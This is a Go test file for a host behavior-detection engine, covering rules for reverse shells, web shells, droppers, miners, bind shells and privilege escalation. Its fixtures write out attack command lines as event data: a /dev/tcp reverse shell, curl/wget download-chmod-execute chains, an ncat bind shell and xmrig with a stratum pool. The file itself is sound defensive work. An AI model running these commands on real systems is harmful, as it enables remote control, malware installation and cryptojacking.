package behavior

import (
	"fmt"
	"net/netip"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/palisade-cwpp/palisade/internal/finding"
)

func builtinEngine(t testing.TB, cfg Config) *Engine {
	t.Helper()
	set, problems, err := Builtin()
	if err != nil || len(problems) > 0 {
		t.Fatal(err, problems)
	}
	e, err := New(set, cfg)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// handleAll feeds events and returns the findings, each checked by finding.Validate.
func handleAll(t testing.TB, e *Engine, evs ...*Event) []finding.Finding {
	t.Helper()
	var out []finding.Finding
	for _, ev := range evs {
		e.Handle(ev, func(f finding.Finding) {
			if err := f.Validate(); err != nil {
				t.Errorf("%s: finding does not validate: %v", f.RuleID, err)
			}
			out = append(out, f)
		})
	}
	return out
}

func ruleIDs(fs []finding.Finding) []string {
	var ids []string
	for _, f := range fs {
		ids = append(ids, f.RuleID)
	}
	return ids
}

func reverseShell() *Event {
	peer := netip.MustParseAddrPort("203.0.113.9:4444")
	ev := exec("/usr/bin/bash", "bash", "-i")
	ev.Proc.UID, ev.Proc.EUID, ev.Proc.AUID = 33, 33, UnsetUID
	ev.Std = [3]StdFD{{FDSocket, peer}, {FDSocket, peer}, {FDSocket, peer}}
	ev.Ancestors = []Process{
		{PID: 3001, PPID: 3000, Exe: "/usr/bin/python3.11", Args: []string{"python3", "-c", "import pty; pty.spawn('/bin/bash')"}, UID: 33, EUID: 33},
		{PID: 3000, PPID: 1, Exe: "/usr/sbin/php-fpm8.2", Args: []string{"php-fpm: pool www"}, UID: 33, EUID: 33},
		{PID: 1, Exe: "/usr/lib/systemd/systemd", Args: []string{"/sbin/init"}},
	}
	ev.Proc.PPID = 3001
	return ev
}

// TestFindingShape: a finding names what happened and carries the process chain, the peer
// and the command line.
func TestFindingShape(t *testing.T) {
	e := builtinEngine(t, Config{})
	fs := handleAll(t, e, reverseShell())
	var f *finding.Finding
	for i := range fs {
		if fs[i].RuleID == "behavior.reverse-shell-stdio" {
			f = &fs[i]
		}
	}
	if f == nil {
		t.Fatalf("reverse-shell-stdio did not fire: %v", ruleIDs(fs))
	}
	if f.Title != "Reverse shell: bash with stdin/stdout on a socket to 203.0.113.9:4444" {
		t.Errorf("title %q", f.Title)
	}
	if f.Category != finding.CategoryBehavior || f.Severity != finding.SeverityCritical || !f.Time.Equal(testEpoch) || f.Action == "" {
		t.Errorf("finding %+v", f)
	}
	if len(f.MITRE) == 0 || f.MITRE[0] != "T1059.004" {
		t.Errorf("mitre %v", f.MITRE)
	}
	ev := f.Evidence
	if len(ev.Process) != 4 || ev.Process[0].Exe != "/usr/bin/bash" || ev.Process[1].Exe != "/usr/bin/python3.11" || ev.Process[2].Exe != "/usr/sbin/php-fpm8.2" {
		t.Errorf("process chain %+v", ev.Process)
	}
	if ev.Process[0].Cmdline != "bash -i" || ev.Process[0].UID != 33 || ev.Process[0].PPID != 3001 {
		t.Errorf("process %+v", ev.Process[0])
	}
	if ev.Fields["std_remote"] != "203.0.113.9:4444" || ev.Fields["std"] != "socket,socket,socket" {
		t.Errorf("fields %v", ev.Fields)
	}
	if len(ev.Lines) != 1 || ev.Lines[0] != "bash -i" {
		t.Errorf("lines %q", ev.Lines)
	}
	if f.DedupKey != "exe=/usr/bin/bash" {
		t.Errorf("dedup key %q", f.DedupKey)
	}
	// the same shell again folds into the same key; another program does not
	again := handleAll(t, e, reverseShell())
	other := reverseShell()
	other.Proc.Exe = "/usr/bin/dash"
	third := handleAll(t, e, other)
	if again[0].Key() != f.Key() || third[0].Key() == f.Key() || again[0].ID == f.ID {
		t.Errorf("keys %q %q %q, ids %q %q", f.Key(), again[0].Key(), third[0].Key(), f.ID, again[0].ID)
	}
}

// TestSequenceFinding: a completed sequence carries every step in order.
func TestSequenceFinding(t *testing.T) {
	e := builtinEngine(t, Config{})
	set, _, _ := Builtin()
	r := set.Rule("behavior.download-chmod-exec")
	fs := handleAll(t, e, r.tests[0].events...)
	var f *finding.Finding
	for i := range fs {
		if fs[i].RuleID == r.ID {
			f = &fs[i]
		}
	}
	if f == nil {
		t.Fatalf("sequence did not fire: %v", ruleIDs(fs))
	}
	want := []string{"wget -q http://203.0.113.9/kinsing", "chmod +x kinsing", "./kinsing"}
	if len(f.Evidence.Lines) != 3 {
		t.Fatalf("lines %q", f.Evidence.Lines)
	}
	for i, l := range f.Evidence.Lines {
		if !strings.HasPrefix(l, fmt.Sprintf("step %d ", i+1)) || !strings.HasSuffix(l, ": "+want[i]) {
			t.Errorf("line %d = %q, want step %d ...: %s", i, l, i+1, want[i])
		}
	}
	if f.Evidence.Fields["sequence_key"] != "/tmp/.x/kinsing" || f.Evidence.Fields["sequence_scope"] != "tree" || f.Evidence.Fields["sequence_span"] != "2s" {
		t.Errorf("fields %v", f.Evidence.Fields)
	}
	if st := e.Stats(); st.Pending != 0 || st.Started != 1 {
		t.Errorf("stats after completion %+v", st)
	}
}

const seqRules = `
rules:
  - id: a-then-b
    title: A then B
    description: test
    severity: low
    sequence:
      scope: host
      window: 1m
      steps:
        - {kind: exec, condition: proc.name = aaa}
        - {kind: exec, condition: proc.name = bbb}
`

// TestSequenceBounds: partial matches are capped per rule (oldest evicted and counted) and
// expire by event time, not the clock.
func TestSequenceBounds(t *testing.T) {
	set, problems, err := LoadRules(fstest.MapFS{"s.yml": {Data: []byte(seqRules)}})
	if err != nil || len(problems) > 0 {
		t.Fatal(err, problems)
	}
	e, err := New(set, Config{MaxPending: 3})
	if err != nil {
		t.Fatal(err)
	}
	at := testEpoch
	ev := func(name string, d time.Duration) *Event {
		at = at.Add(d)
		x := exec("/usr/bin/"+name, name)
		x.Time = at
		return x
	}
	for i := 0; i < 5; i++ {
		handleAll(t, e, ev("aaa", time.Second))
	}
	st := e.Stats()
	if st.Pending != 3 || st.Evicted != 2 || st.Started != 5 {
		t.Fatalf("after 5 starts with MaxPending 3: %+v", st)
	}
	if fs := handleAll(t, e, ev("bbb", time.Second)); len(fs) != 1 {
		t.Fatalf("want one finding for the completed partials, got %d", len(fs))
	}
	if st := e.Stats(); st.Pending != 0 {
		t.Fatalf("completed partials still pending: %+v", st)
	}
	handleAll(t, e, ev("aaa", time.Second))
	if fs := handleAll(t, e, ev("bbb", 61*time.Second)); len(fs) != 0 {
		t.Fatalf("a step after the window completed the sequence")
	}
	if st := e.Stats(); st.Pending != 0 || st.Expired != 1 {
		t.Fatalf("expired partial not dropped: %+v", st)
	}
	// an idle rule's partials are swept as event time passes, whatever the event
	handleAll(t, e, ev("aaa", time.Second))
	handleAll(t, e, ev("zzz", 2*time.Minute))
	if st := e.Stats(); st.Pending != 0 || st.Expired != 2 {
		t.Fatalf("sweep: %+v", st)
	}
}

// TestAllowAndDisabled: allow entries and disabled rules suppress findings and are counted.
func TestAllowAndDisabled(t *testing.T) {
	miner := exec("/opt/bench/xmrig", "xmrig", "--bench=1M")
	tests := []struct {
		name string
		cfg  Config
		want bool
	}{
		{"no allowlist", Config{}, true},
		{"disabled", Config{Disabled: []string{"behavior.miner-known-binary"}}, false},
		{"allowed by exe", Config{Allow: []Allow{{Exe: []string{"/opt/bench/*"}, Comment: "benchmark box"}}}, false},
		{"allowed by rule glob and user", Config{Allow: []Allow{{Rules: []string{"behavior.miner-*"}, Users: []string{"1000"}, Comment: "alice benchmarks"}}}, false},
		{"user does not match", Config{Allow: []Allow{{Rules: []string{"behavior.miner-*"}, Users: []string{"root"}, Comment: "root only"}}}, true},
		{"other rule", Config{Allow: []Allow{{Rules: []string{"behavior.reverse-shell-*"}, Exe: []string{"/opt/*"}, Comment: "x"}}}, true},
		{"cmdline regex", Config{Allow: []Allow{{Cmdline: []string{`--bench=\d+M`}, Comment: "benchmark runs"}}}, false},
		{"parent name", Config{Allow: []Allow{{Parents: []string{"bash"}, Rules: []string{"behavior.miner-known-binary"}, Comment: "interactive"}}}, false},
		{"parent glob misses", Config{Allow: []Allow{{Parents: []string{"/usr/bin/ansible*"}, Comment: "ansible"}}}, true},
		{"user name via lookup", Config{Allow: []Allow{{Users: []string{"alice"}, Comment: "alice"}}, LookupUser: func(n string) (uint32, bool) { return 1000, n == "alice" }}, false},
		{"user name unknown on this host: the entry does not widen", Config{Allow: []Allow{{Rules: []string{"behavior.miner-*"}, Users: []string{"ghost"}, Comment: "x"}},
			LookupUser: func(string) (uint32, bool) { return 0, false }}, true},
		{"user name without a look-up", Config{Allow: []Allow{{Rules: []string{"behavior.miner-*"}, Users: []string{"alice"}, Comment: "x"}}}, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := builtinEngine(t, tt.cfg)
			got := false
			for _, f := range handleAll(t, e, miner) {
				got = got || f.RuleID == "behavior.miner-known-binary"
			}
			if got != tt.want {
				t.Errorf("fired = %v, want %v", got, tt.want)
			}
			if st := e.Stats(); !tt.want && len(tt.cfg.Allow) > 0 && st.Allowlisted == 0 {
				t.Errorf("suppressed but not counted: %+v", st)
			}
		})
	}
}

func TestAllowValidate(t *testing.T) {
	bad := []struct {
		a    Allow
		want string
	}{
		{Allow{Exe: []string{"/x"}}, "comment is missing"},
		{Allow{Comment: "x"}, "no criteria"},
		{Allow{Exe: []string{"bin/*"}, Comment: "x"}, "absolute path glob"},
		{Allow{Cmdline: []string{"(unclosed"}, Comment: "x"}, "cmdline"},
		{Allow{Users: []string{"Bad User!"}, Comment: "x"}, "neither a uid nor a user name"},
		{Allow{Rules: []string{"a b"}, Comment: "x"}, "not a rule ID"},
	}
	for _, b := range bad {
		err := b.a.Validate()
		if err == nil || !strings.Contains(err.Error(), b.want) {
			t.Errorf("%+v: error %v, want it to say %q", b.a, err, b.want)
		}
	}
	if _, err := New(&RuleSet{}, Config{Allow: []Allow{{Comment: "x"}}, Disabled: []string{"Not An ID"}}); err == nil ||
		!strings.Contains(err.Error(), "allow[0]") || !strings.Contains(err.Error(), "disabled") {
		t.Errorf("New with bad config: %v", err)
	}
	good := Allow{Rules: []string{"behavior.web-server-shell"}, Parents: []string{"/usr/lib/jvm/*/bin/java"}, Cmdline: []string{"^sh -c /opt/jenkins/"}, Comment: "jenkins jobs"}
	if err := good.Validate(); err != nil {
		t.Error(err)
	}
}

// TestSetuidAllowConfigurable: the setuid allowlist is the engine's, not the rule's.
func TestSetuidAllowConfigurable(t *testing.T) {
	ev := exec("/usr/local/bin/vendor-helper", "vendor-helper")
	ev.Proc.EUID = 0
	if fs := handleAll(t, builtinEngine(t, Config{}), ev); len(fs) != 1 || fs[0].RuleID != "behavior.privesc-unexpected-root" {
		t.Fatalf("default list: %v", ruleIDs(fs))
	}
	cfg := Config{SetuidAllow: append([]string{"/usr/local/bin/vendor-helper"}, DefaultSetuidAllow...)}
	if fs := handleAll(t, builtinEngine(t, cfg), ev); len(fs) != 0 {
		t.Fatalf("configured list: %v", ruleIDs(fs))
	}
}

// TestLoadProblemsIsolated: a bad rule or file is reported with file, line and rule, and the
// other rules still load.
func TestLoadProblemsIsolated(t *testing.T) {
	fsys := fstest.MapFS{
		"a.yml": {Data: []byte(`
rules:
  - id: good-one
    title: Good
    description: d
    severity: low
    kind: exec
    condition: proc.name = good
  - id: bad-field
    title: Bad
    description: d
    severity: low
    kind: exec
    condition: proc.nmae = x
  - id: bad-key
    title: Bad
    description: d
    severity: low
    kind: exec
    condition: proc.name = x
    sevrity: high
`)},
		"b.yml":     {Data: []byte("rules: [\n")},
		"c.yml":     {Data: []byte("rules:\n  - {id: good-two, title: T, description: d, severity: high, kind: connect, condition: net.remote_port = 4444}\n  - {id: good-one, title: T, description: d, severity: high, kind: exec, condition: 'true'}\n")},
		"d.txt":     {Data: []byte("ignored")},
		"e.yaml":    {Data: []byte("lists: {x: [a]}\nrules:\n  - {id: Bad_ID, title: T, description: d, severity: high, kind: exec, condition: 'true'}\n")},
		"f.yml":     {Data: []byte("")},
		"g.yml":     {Data: []byte("rules:\n  - {id: bad-sev, title: T, description: d, severity: severe, kind: exec, condition: 'true'}\n")},
		"h.yml":     {Data: []byte("rules:\n  - {id: bad-op, title: T, description: d, severity: low, kind: exec, condition: 'proc.uid contains 0'}\n")},
		"sub/i.yml": {Data: []byte("rules: []\n")},
	}
	set, problems, err := LoadRules(fsys)
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(set.IDs(), ","); got != "behavior.good-one,behavior.good-two" {
		t.Errorf("loaded %s", got)
	}
	want := []string{
		`a.yml:9: rule bad-field: condition: at offset 0: unknown field "proc.nmae"`,
		`a.yml:15: rule bad-key: line 21: field sevrity not found`,
		`b.yml: yaml: line`,
		`c.yml: rule behavior.good-one: duplicate rule ID (first defined in a.yml)`,
		`e.yaml:3: rule Bad_ID: id "Bad_ID"`,
		`f.yml: empty file`,
		`g.yml:2: rule bad-sev: severity: unknown severity "severe"`,
		`h.yml:2: rule bad-op: condition: at offset 9: proc.uid is a number: use =, !=, in, <, <=, > or >=, not "contains"`,
	}
	all := fmt.Sprint(problems)
	for _, w := range want {
		if !strings.Contains(all, w) {
			t.Errorf("problems do not contain %q:\n%s", w, strings.ReplaceAll(all, "} {", "}\n{"))
		}
	}
	if _, _, err := LoadRules(fsys, "[bad"); err == nil {
		t.Error("a bad pattern is not an error")
	}
}

// TestMerge: an operator's rule replaces the built-in rule of the same ID, in place.
func TestMerge(t *testing.T) {
	builtin, _, _ := Builtin()
	own, problems, err := LoadRules(fstest.MapFS{"own.yml": {Data: []byte(`
rules:
  - id: miner-pool-port
    title: Mining pool port (tuned)
    description: only 3333
    severity: medium
    kind: connect
    condition: net.remote_port = 3333
  - id: own-rule
    title: Own
    description: d
    severity: low
    kind: exec
    condition: proc.name = own
`)}})
	if err != nil || len(problems) > 0 {
		t.Fatal(err, problems)
	}
	m := builtin.Merge(own)
	if m.Len() != builtin.Len()+1 || m.Rule("behavior.miner-pool-port").Title != "Mining pool port (tuned)" {
		t.Errorf("merge: %d rules, %q", m.Len(), m.Rule("behavior.miner-pool-port").Title)
	}
	ids := m.IDs()
	if ids[len(ids)-1] != "behavior.own-rule" {
		t.Errorf("order %v", ids)
	}
	if builtin.Rule("behavior.miner-pool-port").Title == "Mining pool port (tuned)" {
		t.Error("merge changed its receiver")
	}
}

// attackStream is ordinary work with a web shell, a dropper, a reverse shell, a miner and a
// local privilege escalation in it.
func attackStream() []*Event {
	c := newCorpus(7)
	sshd, cron := c.services()
	c.packageBuild(10)
	sh := c.login(sshd)
	c.cronLogrotate(cron)
	// a web shell in php-fpm: recon, a download-chmod-run, a reverse shell
	fpm := c.execAs(systemd, 33, 33, "", "/usr/sbin/php-fpm8.2", "php-fpm: pool www")
	wsh := c.exec(fpm, "/usr/bin/dash", "sh", "-c", "id; uname -a")
	c.exec(wsh, "/usr/bin/id", "id")
	wsh.p.Cwd = "/tmp"
	c.exec(wsh, "/usr/bin/curl", "curl", "-so", "/tmp/.k", "http://203.0.113.9/k")
	c.exec(wsh, "/usr/bin/chmod", "755", "/tmp/.k")
	c.exec(wsh, "/tmp/.k", "/tmp/.k")
	rs := c.exec(wsh, "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1")
	c.exec(rs, "/usr/bin/xmrig", "xmrig", "-o", "stratum+tcp://pool.example.net:3333", "--donate-level=1")
	// a local user escalates
	c.execAs(sh, 1000, 0, "pts/0", "/usr/bin/dash", "sh")
	c.packageBuild(10)
	return c.events
}

// TestAttacksInBenignStream: attacks hidden in ordinary work are found, each by its rule.
func TestAttacksInBenignStream(t *testing.T) {
	e := builtinEngine(t, Config{})
	got := map[string]int{}
	for _, f := range handleAll(t, e, attackStream()...) {
		got[f.RuleID]++
	}
	for _, id := range []string{"behavior.web-server-shell", "behavior.web-server-recon", "behavior.download-chmod-exec",
		"behavior.reverse-shell-dev-tcp", "behavior.miner-stratum-url", "behavior.miner-known-binary", "behavior.miner-arguments",
		"behavior.privesc-unexpected-root"} {
		if got[id] == 0 {
			t.Errorf("%s did not fire", id)
		}
		delete(got, id)
	}
	for id, n := range got {
		t.Errorf("unexpected %s x%d", id, n)
	}
}

// TestIndexEquivalence: the index only skips work. An engine with it and one evaluating every
// condition for every event report the same rules for the same events.
func TestIndexEquivalence(t *testing.T) {
	set := benchRules(t, 500)
	sig, _ := loadTestSigma(t)
	set = set.Merge(sig)
	run := func(indexed bool) []string {
		e, err := newEngine(set, Config{}, indexed)
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		evs := append(benchStream(), attackStream()...)
		for i, ev := range evs {
			e.Handle(ev, func(f finding.Finding) { got = append(got, fmt.Sprintf("%d %s", i, f.RuleID)) })
		}
		return got
	}
	with, without := run(true), run(false)
	if strings.Join(with, "\n") != strings.Join(without, "\n") {
		t.Errorf("indexed engine reported %d findings, unindexed %d:\nindexed:   %v\nunindexed: %v", len(with), len(without), with, without)
	}
	if len(with) < 10 {
		t.Errorf("only %d findings: the comparison says little", len(with))
	}
}

const treeRule = `
rules:
  - id: a-then-b-tree
    title: A then B in one tree
    description: test
    severity: low
    sequence:
      scope: tree
      window: 1h
      steps:
        - {kind: exec, condition: proc.name = aaa}
        - {kind: exec, condition: proc.name = bbb}
`

// TestTreeScope: which processes count as the same tree as an earlier step.
func TestTreeScope(t *testing.T) {
	set, problems, err := LoadRules(fstest.MapFS{"t.yml": {Data: []byte(treeRule)}})
	if err != nil || len(problems) > 0 {
		t.Fatal(err, problems)
	}
	start := testEpoch.Add(-time.Hour)
	shell := Process{PID: 700, PPID: 600, Exe: "/usr/bin/bash", Start: start}
	sshd := Process{PID: 600, PPID: 1, Exe: "/usr/sbin/sshd", Start: start}
	initp := Process{PID: 1, Exe: "/usr/lib/systemd/systemd"}
	a := &Event{Kind: KindExec, Time: testEpoch, Proc: Process{PID: 800, PPID: 700, Exe: "/usr/bin/aaa", Start: testEpoch}, Ancestors: []Process{shell, sshd, initp}}
	b := func(p Process, ancs ...Process) *Event {
		return &Event{Kind: KindExec, Time: testEpoch.Add(time.Minute), Proc: p, Ancestors: ancs}
	}
	bbb := func(pid, ppid int32) Process {
		return Process{PID: pid, PPID: ppid, Exe: "/usr/bin/bbb", Start: testEpoch.Add(time.Minute)}
	}
	aaaAgain := a.Proc // the first step's process, seen as an ancestor
	tests := []struct {
		name string
		ev   *Event
		want bool
	}{
		{"sibling: same parent shell", b(bbb(801, 700), shell, sshd, initp), true},
		{"descendant of the first step", b(bbb(900, 800), aaaAgain, shell, sshd, initp), true},
		{"grandchild of the parent shell", b(bbb(901, 850), Process{PID: 850, PPID: 700, Exe: "/usr/bin/make"}, shell, sshd, initp), true},
		{"another session under the same sshd", b(bbb(902, 710), Process{PID: 710, PPID: 600, Exe: "/usr/bin/bash"}, sshd, initp), false},
		{"a daemon under init only", b(bbb(903, 1), initp), false},
		{"the parent's PID reused by another process", b(bbb(904, 700), Process{PID: 700, PPID: 1, Exe: "/usr/bin/bash", Start: testEpoch.Add(30 * time.Second)}, initp), false},
		{"unknown start times compare by PID", b(bbb(905, 700), Process{PID: 700, PPID: 600, Exe: "/usr/bin/bash"}, initp), true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e, err := New(set, Config{})
			if err != nil {
				t.Fatal(err)
			}
			got := len(handleAll(t, e, a, tt.ev)) > 0
			if got != tt.want {
				t.Errorf("fired = %v, want %v", got, tt.want)
			}
		})
	}
}

// TestAcceptEvidence: an inbound connection's client is the finding's source address.
func TestAcceptEvidence(t *testing.T) {
	ev := exec("/usr/bin/ncat", "ncat", "-lvp", "4444", "--sh-exec", "/bin/bash")
	ev.Kind = KindAccept
	ev.Net = &Conn{Proto: "tcp", Local: netip.MustParseAddrPort("10.0.0.4:4444"), Remote: netip.MustParseAddrPort("[::ffff:198.51.100.77]:51514")}
	fs := handleAll(t, builtinEngine(t, Config{}), ev)
	if len(fs) != 1 || fs[0].RuleID != "behavior.bind-shell-accept" {
		t.Fatalf("findings %v", ruleIDs(fs))
	}
	ed := fs[0].Evidence
	if ed.SourceIP != "198.51.100.77" || ed.Fields["local"] != "10.0.0.4:4444" || fs[0].DedupKey != "exe=/usr/bin/ncat remote=198.51.100.77" {
		t.Errorf("evidence %+v, dedup %q", ed, fs[0].DedupKey)
	}
	if ed.Lines[0] != "ncat[4000] accept tcp 198.51.100.77:51514" {
		t.Errorf("line %q", ed.Lines[0])
	}
}
